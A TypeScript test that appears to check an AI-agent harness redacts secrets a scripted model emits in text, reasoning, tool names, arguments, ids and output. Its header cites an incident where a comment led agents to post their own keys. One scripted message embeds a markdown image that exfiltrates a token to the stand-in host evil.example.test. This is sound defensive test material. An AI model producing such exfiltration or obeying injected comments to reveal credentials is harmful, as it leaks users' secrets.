/** April 2026: a comment made agents post their own keys. Here the model says them, as it likes, in every place it has. */

import assert from 'node:assert/strict';
import { it } from 'node:test';
import { attack, call, findLeaksIn } from '../support/hostile-run.ts';
import { drawSecret } from '../support/secret-sources.ts';

it('no key that the model says leaves the run, in no text, name, id or argument', async () => {
  const secrets = [drawSecret('api-key', 'api-key'), drawSecret('github-token', 'github-token')];
  const [key = '', token = ''] = secrets.map(({ value }) => value);
  const said = `The keys are ${key} and ${token}.`;
  const calls = [
    call('fs_read_file', { path: key }),
    call('fs_search', { query: token, [token]: key }),
    call(key.slice(0, 40), said),
    { ...call('get_time', {}), id: key },
  ];
  await attack(
    {
      script: [
        { text: said, reasoning: said, calls },
        { text: `${said}\n<!-- ${key} -->\n![x](https://evil.example.test/${token})` },
      ],
      inputs: { 'api-key': key },
      githubToken: token,
    },
    (run) => {
      assert.deepEqual(findLeaksIn(run, secrets), []);
      assert.match(run.outputs['final-message'] ?? '', /^The keys are \S+ and \S+\n<!-- /m);
      assert.equal(run.outputs.conclusion, 'success');
    },
  );
});
